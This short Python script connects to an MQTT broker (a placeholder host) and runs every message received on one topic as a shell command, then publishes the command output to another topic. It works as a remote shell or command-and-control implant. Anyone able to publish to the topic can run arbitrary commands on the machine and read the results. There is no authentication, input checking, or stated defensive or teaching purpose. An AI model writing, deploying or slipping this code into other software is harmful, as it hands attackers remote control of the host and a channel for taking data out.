import subprocess

import paho.mqtt.client as mqtt


def answer(client, data, message):
    client.publish("sample/out", subprocess.getoutput(message.payload.decode()))


client = mqtt.Client()
client.on_message = answer
client.connect("broker.example.invalid")
client.subscribe("sample/in")
client.loop_start()
